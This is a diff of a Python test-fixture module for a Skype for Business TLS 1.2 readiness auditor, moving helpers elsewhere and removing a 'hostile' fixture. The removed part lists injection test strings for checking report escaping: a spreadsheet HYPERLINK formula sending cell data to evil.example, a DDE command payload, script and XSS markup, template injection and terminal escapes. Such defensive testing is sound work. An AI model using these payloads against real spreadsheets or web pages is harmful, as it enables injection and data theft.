@@ -1,8 +1,8 @@
-"""One rich audit for every report's tests: a hybrid estate with all that makes one awkward."""
+"""Contoso for the tests of every report: a hybrid estate with all that makes one awkward."""
 
 from __future__ import annotations
 
-from datetime import UTC, date, datetime, timedelta
+from datetime import date
 from typing import Any
 
 from auditor.audit import (
@@ -11,101 +11,29 @@ from auditor.audit import (
     ComparedEntry,
     DifferenceEntry,
     EstateEntry,
-    EvidenceEntry,
     FindingEntry,
     MachineEntry,
     OverlayEntry,
     PolicyEntry,
     PoolEntry,
-    ReachedEntry,
-    RunEntry,
     ScenarioEntry,
-    ServerEntry,
-    SourceRef,
-    StepEntry,
     UnderPolicyEntry,
     WaitEntry,
     WaiverEntry,
 )
-
-STARTED = datetime(2018, 8, 20, 1, 2, 3, tzinfo=UTC)
-_POOL01, _EDGE01 = "pool01.contoso.com", "edgepool01.contoso.com"
-FINISHED = STARTED + timedelta(minutes=4)
-
-ARTICLE = SourceRef(
-    key="o365-tls12",
-    title="Preparing Skype for Business for TLS 1.2 in Office 365",
-    url="https://techcommunity.microsoft.com/t5/skype-for-business/222247",
+from tests.reports.entries import (
+    ARTICLE,
+    EDGE01,
+    KB,
+    POOL01,
+    PRACTICE,
+    empty,
+    finding,
+    reached,
+    run,
+    server,
+    step,
 )
-KB = SourceRef(
-    key="kb3140245",
-    title="Update to enable TLS 1.1 and TLS 1.2 as default protocols in WinHTTP",
-    url="https://support.microsoft.com/kb/3140245",
-)
-PRACTICE = SourceRef(key="practice", title="Field practice")
-
-# Everything a server could say to do harm in one report or another.
-HOSTILE: dict[str, str] = {
-    "formula": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
-    "dde": "=cmd|'/c calc'!A0",
-    "plus": "+1+1",
-    "minus": "-2+3",
-    "at": "@SUM(1,1)",
-    "tab": "\t=1+1",
-    "return": "\r=1+1",
-    "error value": "#N/A",
-    "markup": "<script>alert('x')</script></style></details><img src=x onerror=alert(1)>",
-    "template": "{{ 7*7 }}{% raw %}{{ config }}",
-    "rich markup": "[red]not red[/red] [link=http://evil.example]x[/link] [/]",
-    "terminal": "\x1b[2J\x1b[31mred\x07\x9b31m",
-    "right to left": "abc\u202egnp.exe\u2066 \u05e9\u05dc\u05d5\u05dd",
-    "controls": "nul\x00 vt\x0b fs\x1c nel\x85 del\x7f",
-    "non-character": "end\ufffe\uffff",
-    "excel escape": "_x0041_ and _x000D_",
-    "astral": "\U0001f4a3" * 30,
-    "long": "long " * 8_000,
-    "one word": "x" * 30_000,
-    "format": "%s%n {0} {audit.run} ${x}",
-    "apostrophe": "'quoted",
-    "blank": "   ",
-    "empty": "",
-}
-
-
-def reached(name: str, ok: bool = True, **more: Any) -> ReachedEntry:
-    values: dict[str, Any] = {
-        "ok": ok,
-        "code": "REACH-READ" if ok else name,
-        "sentence": "Read." if ok else "",
-        "started": STARTED,
-        "finished": STARTED + timedelta(seconds=5),
-        "collected": STARTED + timedelta(seconds=3) if ok else None,
-        "clock_skew_seconds": 0.4 if ok else None,
-    }
-    return ReachedEntry(**(values | more))
-
-
-def server(fqdn: str, pool: str, readiness: str = "ready", **more: Any) -> ServerEntry:
-    values: dict[str, Any] = {
-        "fqdn": fqdn,
-        "pool": pool,
-        "pool_kind": "enterprise",
-        "site": "Tokyo",
-        "roles": ("Registrar", "UserServices", "WebServices"),
-        "zone": "internal",
-        "product": "sfb2015",
-        "product_title": "Skype for Business Server 2015",
-        "build": "6.0.9319.516",
-        "build_label": "CU6 HF2 (Mar 2018, KB4086059)",
-        "os": "2012r2",
-        "os_title": "Windows Server 2012 R2",
-        "readiness": readiness,
-        "reason": "Everything required was found." if readiness == "ready" else "",
-        "reached": reached("REACH-READ"),
-        "needed_by": {_POOL01: ("hybrid",), _EDGE01: ("hybrid", "federation")}.get(pool, ()),
-    }
-    return ServerEntry(**(values | more))
-
 
 _LYNC = {
     "product": "lync2013",
@@ -117,10 +45,10 @@ _OLD = {"build": "5.0.8308.992", "build_label": "CU9 (Jul 2017, KB4019183)"}
 
 
 SERVERS = (
-    server("fe01.contoso.com", _POOL01, upgrade_domain="UpgradeDomain1"),
+    server("fe01.contoso.com", POOL01, upgrade_domain="UpgradeDomain1"),
     server(
         "fe02.contoso.com",
-        _POOL01,
+        POOL01,
         "work_needed",
         upgrade_domain="UpgradeDomain2",
         build="6.0.9319.281",
@@ -129,7 +57,7 @@ SERVERS = (
     ),
     server(
         "fe03.contoso.com",
-        _POOL01,
+        POOL01,
         "work_needed",
         upgrade_domain="UpgradeDomain3",
         build="6.0.9319.281",
@@ -138,7 +66,7 @@ SERVERS = (
     ),
     server(
         "fe04.contoso.com",
-        _POOL01,
+        POOL01,
         "unknown",
         upgrade_domain="UpgradeDomain4",
         reason="The uninstall registry was not readable.",
@@ -177,7 +105,7 @@ SERVERS = (
     ),
     server(
         "edge01.contoso.com",
-        _EDGE01,
+        EDGE01,
         "work_needed",
         pool_kind="edge",
         zone="dmz",
@@ -185,7 +113,7 @@ SERVERS = (
     ),
     server(
         "edge02.contoso.com",
-        _EDGE01,
+        EDGE01,
         "unknown",
         pool_kind="edge",
         zone="dmz",
@@ -250,32 +178,6 @@ SERVERS = (
 )
 
 
-def finding(rule: str, subject: str, status: str, **more: Any) -> FindingEntry:
-    values: dict[str, Any] = {
-        "id": f"{rule}-{subject}",
-        "rule": rule,
-        "title": "The cumulative update is recent enough",
-        "subject": subject,
-        "subject_kind": "server",
-        "status": status,
-        "observed": "Core Components 6.0.9319.281",
-        "required": "6.0.9319.516 or later",
-        "reason": "Earlier builds cannot speak TLS 1.2 to Office 365.",
-        "evidence": (
-            EvidenceEntry(
-                family="products",
-                path=r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Uninstall\{A-1}\DisplayVersion",
-                value="6.0.9319.281",
-                when=STARTED,
-            ),
-        ),
-        "remediation": "Install the March 2018 cumulative update or a later one.",
-        "source": (ARTICLE,),
-        "needed_by": ("hybrid",) if subject.startswith(("fe", "edge")) else (),
-    }
-    return FindingEntry(**(values | more))
-
-
 HALF_PATCHED = tuple(
     ComparedEntry(name=name, observed=observed, required=required, note=note)
     for name, observed, required, note in (
@@ -310,7 +212,7 @@ def _findings() -> tuple[FindingEntry, ...]:
     found.append(
         finding(
             "SFB-POOL-001",
-            _POOL01,
+            POOL01,
             "waived",
             subject_kind="pool",
             title="One build per pool",
@@ -318,40 +220,6 @@ def _findings() -> tuple[FindingEntry, ...]:
         )
     )
     return tuple(found)
-
-
-def step(number: int, wave: int, target: str, title: str, **more: Any) -> StepEntry:
-    values: dict[str, Any] = {
-        "id": f"S-{number:04x}",
-        "number": number,
-        "wave": wave,
-        "action": "install_cu",
-        "title": title,
-        "target": target,
-        "target_kind": "server",
-        "pool": _POOL01,
-        "site": "Tokyo",
-        "commands": (
-            CommandEntry(
-                text="Invoke-CsComputerFailOver -ComputerName " + target,
-                shell="powershell",
-                run_on=target,
-            ),
-            CommandEntry(text="SkypeServerUpdateInstaller.exe", shell="cmd", run_on=target),
-            CommandEntry(text="Restart the server when the installer asks for it.", shell="gui"),
-            CommandEntry(
-                text="Invoke-CsComputerFailBack -ComputerName " + target, shell="powershell"
-            ),
-        ),
-        "minutes": 75,
-        "impact": "Users of this front end move to the others of its pool.",
-        "rollback": "Uninstall the update from Programs and Features, newest component first.",
-        "rules": ("SFB-CU-001",),
-        "reason": "Core Components 6.0.9319.281 is below 6.0.9319.516 (CU6 HF2).",
-        "source": (ARTICLE,),
-        "needed_by": ("hybrid", "federation") if target.startswith("edge") else ("hybrid",),
-    }
-    return StepEntry(**(values | more))
 
 
 def _after(number: int, reason: str, firm: str = "official") -> dict[str, Any]:
@@ -369,7 +237,7 @@ STEPS = (
     step(4, 2, "se01.contoso.com", _CU, pool="se01.contoso.com", site="Osaka"),
     step(5, 3, "sql01.contoso.com", "Update the back-end databases", target_kind="database",
          minutes=40, **_after(3, "databases follow when their binaries are done")),
-    step(6, 4, "edge01.contoso.com", _CU, pool=_EDGE01,
+    step(6, 4, "edge01.contoso.com", _CU, pool=EDGE01,
          **_after(5, "the Edge follows what is behind it", "practice")),
     step(7, 4, "old01.contoso.com", "Migrate to Skype for Business Server 2015", minutes=960,
          pool="old01.contoso.com", site="Osaka", action="migrate", commands=(
@@ -396,7 +264,7 @@ def _pools() -> tuple[PoolEntry, ...]:
                 readiness=worst,
                 reason=f"{len(members)} servers",
                 servers=tuple(entry.fqdn for entry in members),
-                hosts_cms=fqdn == _POOL01,
+                hosts_cms=fqdn == POOL01,
             )
         )
     return tuple(pools)
@@ -410,9 +278,9 @@ SCENARIOS = (
         evidence="Stated in the inventory.",
         readiness="work_needed",
         reason="2 of 4 servers of pool01.contoso.com need work.",
-        pools=(_POOL01, _EDGE01),
+        pools=(POOL01, EDGE01),
         source=(ARTICLE,),
-        chains=((_POOL01, "dir01.contoso.com", _EDGE01),),
+        chains=((POOL01, "dir01.contoso.com", EDGE01),),
         guessed=("What edgepool01.contoso.com hands over to is not known.",),
     ),
     ScenarioEntry(
@@ -422,7 +290,7 @@ SCENARIOS = (
         evidence="Nobody stated it.",
         readiness="unknown",
         reason="edge02.contoso.com was not read.",
-        pools=(_EDGE01,),
+        pools=(EDGE01,),
         source=(ARTICLE,),
     ),
     ScenarioEntry(
@@ -434,20 +302,6 @@ SCENARIOS = (
         reason="Stated as not in use.",
     ),
 )
-
-
-def run(**more: Any) -> RunEntry:
-    values: dict[str, Any] = {
-        "id": "20180820T010203Z-3fa9",
-        "started": STARTED,
-        "finished": FINISHED,
-        "policy": "office365-tls12",
-        "policy_title": "Can these servers talk to Office 365, which accepts TLS 1.2 only?",
-        "tool_version": "0.1.0",
-        "rulebook_date": "2018-08-01",
-        "exit_code": 3,
-    }
-    return RunEntry(**(values | more))
 
 
 def sample() -> Audit:
@@ -528,8 +382,8 @@ def waived() -> Audit:
 
     site = "edgepool01.contoso.com"
     servers = (
-        server("fe01.contoso.com", _POOL01, **under(LATER)),
-        server("fe02.contoso.com", _POOL01, by_waiver=LATER, **under(LATER)),
+        server("fe01.contoso.com", POOL01, **under(LATER)),
+        server("fe02.contoso.com", POOL01, by_waiver=LATER, **under(LATER)),
         server("edge01.contoso.com", site, by_waiver=SOON, **under(SOON)),
         server("dir01.contoso.com", "dir01.contoso.com", **under(None)),
     )
@@ -544,7 +398,7 @@ def waived() -> Audit:
             by_waiver=until,
             **under(until),
         )
-        for fqdn, until in ((_POOL01, LATER), (site, SOON), ("dir01.contoso.com", None))
+        for fqdn, until in ((POOL01, LATER), (site, SOON), ("dir01.contoso.com", None))
     )
     hybrid = SCENARIOS[0].model_copy(
         update={
@@ -563,104 +417,3 @@ def waived() -> Audit:
     )
     more = {"servers": servers, "pools": pools, "scenarios": (hybrid,), "findings": (found,)}
     return empty().model_copy(update={"run": run(exit_code=0, policies=policies), **more})
-
-
-def empty() -> Audit:
-    """An estate without a server, a finding or a step."""
-    return Audit(
-        run=run(exit_code=0),
-        estate=EstateEntry(name="Nobody", source="empty.toml"),
-        servers=(),
-        pools=(),
-        scenarios=(),
-        findings=(),
-        steps=(),
-    )
-
-
-def hostile() -> Audit:
-    """Every text that a server, a file or an operator could influence is an attack."""
-    texts = tuple(HOSTILE.values())
-    servers = tuple(
-        server(
-            text or "nameless",
-            text,
-            "unknown",
-            site=text,
-            roles=(text,),
-            product_title=text,
-            build=text,
-            build_label=text,
-            os_title=text,
-            upgrade_domain=text,
-            reason=text,
-            reached=reached(
-                "REACH-FAULT", False, sentence=text, hint=text, detail=text, origin=text
-            ),
-        )
-        for text in texts
-    )
-    evil = SourceRef(key="evil", title=HOSTILE["markup"], url="javascript:alert(1)")
-    findings = tuple(
-        finding(
-            "SFB-CU-001",
-            text,
-            "unknown",
-            id=f"F-{index}",
-            title=text,
-            observed=text,
-            required=text,
-            reason=text,
-            remediation=text,
-            evidence=(EvidenceEntry(family="os", path=text, value=text),),
-            compared=(ComparedEntry(name=text, observed=text, required=text, note=text),),
-            waiver=WaiverEntry(who=text, why=text, until=FINISHED.date()),
-            source=(evil, KB),
-        )
-        for index, text in enumerate(texts)
-    )
-    steps = tuple(
-        step(
-            index,
-            1,
-            text,
-            text,
-            pool=text,
-            site=text,
-            reason=text,
-            impact=text,
-            rollback=text,
-            commands=(CommandEntry(text=text, shell="powershell", run_on=text),),
-            source=(evil,),
-        )
-        for index, text in enumerate(texts, 1)
-    )
-    estate = EstateEntry(name=HOSTILE["markup"], source=HOSTILE["terminal"], notes=texts)
-    return sample().model_copy(
-        update={
-            "estate": estate,
-            "servers": servers,
-            "pools": (),
-            "findings": findings,
-            "steps": steps,
-            "sources": (evil, KB),
-            "notes": texts,
-        }
-    )
-
-
-def large(servers: int = 2_000) -> Audit:
-    """An estate of 500 pools of four servers, each with a finding and a step."""
-    names = [f"fe{number:04}.contoso.com" for number in range(servers)]
-    return sample().model_copy(
-        update={
-            "servers": tuple(
-                server(name, f"pool{i // 4:03}.contoso.com", "work_needed", reason="Too old.")
-                for i, name in enumerate(names)
-            ),
-            "findings": tuple(finding("SFB-CU-001", name, "fail") for name in names),
-            "steps": tuple(
-                step(number, number % 40 + 1, name, _CU) for number, name in enumerate(names, 1)
-            ),
-        }
-    )
